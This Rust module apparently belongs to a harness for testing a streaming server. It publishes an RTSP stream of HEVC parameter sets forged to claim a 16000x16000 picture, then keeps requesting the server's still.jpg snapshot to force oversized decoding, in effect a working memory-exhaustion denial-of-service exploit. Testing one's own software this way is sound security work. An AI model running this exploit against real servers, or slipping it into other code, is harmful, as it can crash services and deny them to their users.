//! A still of a stream whose pictures claim to be larger than any.

use std::time::Duration;

use anyhow::Result;
use hevcast_wire::rtp::interleave;

use super::peer::{IDR_SLICE, Peer};
use super::trial::Target;

const PAUSE: Duration = Duration::from_millis(200);
/// Parameter sets of a 16000x16000 picture, as x265 writes them but for the size.
const SETS: [&[u8]; 3] = [
    &[
        0x40, 0x01, 0x0c, 0x01, 0xff, 0xff, 0x01, 0x60, 0x00, 0x00, 0x03, 0x00, 0x90, 0x00, 0x00, 0x03, 0x00, 0x00,
        0x03, 0x00, 0x5a, 0x92, 0x80, 0x90,
    ],
    // chroma_format_idc 1, 16000 by 16000 samples; the rest as that of 640x480.
    &[
        0x42, 0x01, 0x01, 0x01, 0x60, 0x00, 0x00, 0x03, 0x00, 0x90, 0x00, 0x00, 0x03, 0x00, 0x00, 0x03, 0x00, 0x5a,
        0xa0, 0x00, 0x7d, 0x02, 0x00, 0x0f, 0xa0, 0x59, 0x64, 0xa9, 0x24, 0xca, 0xf0, 0x16, 0x80, 0x80, 0x00, 0x00,
        0x03, 0x00, 0x80, 0x00, 0x00, 0x0f, 0x04,
    ],
    &[0x44, 0x01, 0xc1, 0x72, 0xb4, 0x62, 0x40],
];

pub(super) fn run(target: &Target) -> Result<Vec<Peer>> {
    let mut publisher = Peer::connect(target.rtsp)?;
    publisher.publish("attack/huge", "")?;
    let mut timestamp = 0;
    let request = format!(
        "GET /api/v1/streams/attack/huge/still.jpg HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        target.http
    );
    while target.goes_on() {
        timestamp += 3000;
        for set in SETS {
            // As a slice of no filler: the set is its own payload.
            let frame = publisher.slice(IDR_SLICE, 0, timestamp);
            let header = &frame[interleave::HEADER_LEN..frame.len() - IDR_SLICE.len()];
            // Without the marker: the picture is not over.
            let packet = [&[header[0], header[1] & 0x7f][..], &header[2..], set].concat();
            publisher.send(&interleave::frame(0, &packet))?;
        }
        let slice = publisher.slice(IDR_SLICE, 20_000, timestamp);
        publisher.send(&slice)?;
        let mut http = Peer::connect(target.http)?;
        http.send(request.as_bytes())?;
        std::thread::sleep(PAUSE);
    }
    Ok(vec![publisher])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_picture_claims_to_be_huge() {
        let info = hevcast_wire::h265::parse_sps(SETS[1]).unwrap();
        assert_eq!((info.width, info.height), (16_000, 16_000));
    }
}
